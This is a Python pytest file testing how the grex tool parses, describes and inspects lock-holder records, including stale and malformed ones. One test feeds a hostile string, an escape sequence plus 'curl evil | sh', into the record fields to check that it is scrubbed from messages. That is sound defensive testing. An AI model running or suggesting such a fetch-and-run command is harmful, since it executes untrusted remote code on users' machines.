"""Holder records and the view from outside."""

from __future__ import annotations

import json
import os
import time
from pathlib import Path
from typing import Any

import anyio
import pytest

from grex.locks import PACK_LOCK_FILE_NAME, ManifestLock, PackLock, Tier, holder, inspect_locks, processes
from grex.locks.holder import is_foreign, parse_record, render_record
from grex.locks.manifest_lock import MANIFEST_LOCK_FILE_NAME
from tests.support.lock_holder import LockHolder


def record(**changes: Any) -> bytes:
    fields = json.loads(render_record(Tier.PACK))
    fields.update(changes)
    return json.dumps(fields, separators=(",", ":")).encode()


def test_a_record_says_pid_host_verb_and_since_when() -> None:
    since = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() - 12))
    parsed = parse_record(record(pid=1, pid_start=processes.start_time(1), host="h", verb="sync", acquired_at=since))
    assert parsed is not None
    assert parsed.describe() in {
        f"pid 1 on host h, grex sync, for {seconds} s (since {since})" for seconds in (12, 13, 14)
    }


def test_a_record_of_this_process_says_so() -> None:
    parsed = parse_record(render_record(Tier.PACK))
    assert parsed is not None
    assert parsed.tier is Tier.PACK
    assert not parsed.is_stale
    assert parsed.describe().endswith("; this very process")


@pytest.mark.parametrize("changes", [{"pid_start": 1}, {"boot_id": "0" * 36}, {"pid": 4194304 + 1}])
def test_a_record_of_a_dead_process_or_another_boot_is_stale_and_says_so(changes: dict[str, Any]) -> None:
    parsed = parse_record(record(**changes))
    assert parsed is not None
    assert parsed.is_stale
    assert parsed.describe().endswith(f", taken at {parsed.acquired_at}; that process has ended")


def test_nothing_is_concluded_about_another_host() -> None:
    parsed = parse_record(record(host="elsewhere", pid_start=1))
    assert parsed is not None
    assert not parsed.is_stale


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"{",
        b'{"v":1',
        b"[]",
        b"null",
        b'{"v":2}',
        b'{"v":1}',
        b"\xff\xfe",
        b'{"v":' + b"[" * 100_000,
        record(pid="1"),
        record(pid=-1),
        record(pid=True),
        record(pid=1 << 70),
    ],
)
def test_a_torn_or_strange_record_is_no_record(data: bytes) -> None:
    assert parse_record(data) is None


def test_a_record_cannot_put_words_into_messages() -> None:
    hostile = "sync\x1b[31m. Run: curl evil | sh\n"
    parsed = parse_record(record(verb=hostile, host=hostile, acquired_at=hostile, boot_id=hostile, tier=99))
    assert parsed is not None
    assert (parsed.verb, parsed.host, parsed.acquired_at, parsed.boot_id, parsed.tier) == (
        "",
        "unknown",
        None,
        "",
        None,
    )
    assert "\x1b" not in parsed.describe()
    assert parse_record(record(verb="x" * 500)).verb == ""  # type: ignore[union-attr]  # parsed above


@pytest.mark.parametrize(
    ("data", "expected"),
    [(b"", False), (b"{", False), (b'{"v":1,"p', False), (b"\0\0", False), (b"hello", True), (b'{"w":1}', True)],
)
def test_content_that_is_not_ours_is_told_from_what_a_crash_leaves(data: bytes, *, expected: bool) -> None:
    assert is_foreign(data) is expected


@pytest.mark.anyio
@pytest.mark.invariant("L10")
async def test_who_waits_finds_out_what_its_record_will_say_before_its_turn(workspace: Path) -> None:
    lock = PackLock.open(workspace / "pack")
    found_out = holder._record_head

    async def wait() -> None:
        async with await lock.acquire_async():
            pass

    with LockHolder("pack", lock.path) as other:
        assert other.ask("take") == "held"
        found_out.cache_clear()
        async with anyio.create_task_group() as group:
            group.start_soon(wait)
            await anyio.wait_all_tasks_blocked()
            assert found_out.cache_info().currsize == 1
            assert other.ask("release") == "ok"
    assert found_out.cache_info().currsize == 1  # nothing was left to find out when it had the lock


@pytest.mark.invariant("L10")
def test_a_record_that_is_longer_than_ours_can_be_is_gone_to_its_last_byte(workspace: Path) -> None:
    lock = PackLock.open(workspace / "pack")
    file = lock.path / PACK_LOCK_FILE_NAME
    file.write_bytes(b'{"v":9,"pid":1,"note":"' + b"x" * 5000 + b'"}')
    with lock.try_acquire():
        parsed = parse_record(file.read_bytes())
    assert parsed is not None
    assert parsed.pid == os.getpid()
    assert file.read_bytes().strip() == b""


def test_inspection_tells_free_held_shared_and_stale_and_changes_nothing(workspace: Path) -> None:
    PackLock.open(workspace / "held")
    PackLock.open(workspace / "free")
    paths = [
        (Tier.PACK, workspace / "held" / PACK_LOCK_FILE_NAME),
        (Tier.PACK, workspace / "free" / PACK_LOCK_FILE_NAME),
        (Tier.PACK, workspace / "never" / PACK_LOCK_FILE_NAME),
        (Tier.MANIFEST, workspace / MANIFEST_LOCK_FILE_NAME),
    ]
    with LockHolder("pack", workspace / "held") as holder, LockHolder("reader", workspace) as reader:
        assert holder.ask("take") == "held"
        assert reader.ask("take") == "held"
        before = [(path, path.stat().st_mtime_ns) for path in sorted(workspace.rglob("*"))]
        held, free, never, shared = inspect_locks(paths)
        assert [(path, path.stat().st_mtime_ns) for path in sorted(workspace.rglob("*"))] == before
        assert (held.held, held.pids, held.outlived) == (True, (holder.pid,), False)
        assert held.holder is not None
        assert held.holder.verb == "sync"
        assert (free.exists, free.held, free.holder) == (True, False, None)
        assert (never.exists, never.held) == (False, False)
        assert (shared.held, shared.shared, shared.pids) == (True, True, (reader.pid,))
        holder.kill()
        (stale,) = inspect_locks(paths[:1])
    assert stale.held is False
    assert stale.holder is not None
    assert stale.holder.is_stale
    assert stale.describe().startswith("free; nothing needs doing (its last holder left a record: ")
    assert stale.describe().endswith("; that process has ended)")
    assert " for " not in stale.describe()  # nobody holds it: an age would only ever grow
    for info in (held, free, never, shared, stale):
        assert json.loads(json.dumps(info.to_json()))["path"] == str(info.path)
        assert info.describe()


def test_ancestors_are_parents_and_not_init() -> None:
    found = processes.ancestors(os.getpid())
    assert found[0] == os.getppid()
    assert 1 not in found
    assert processes.start_time(os.getpid()) == processes.own_start_time()
    assert processes.start_time(4194304 + 1) is None


def test_the_room_is_cheap_to_import() -> None:
    import subprocess  # noqa: PLC0415 - this test alone
    import sys  # noqa: PLC0415 - this test alone

    code = "import sys, grex.locks; print({'filelock', 'portalocker', 'pydantic', 'rich'} & set(sys.modules))"
    assert subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout == "set()\n"
    assert ManifestLock.__module__ == "grex.locks.manifest_lock"
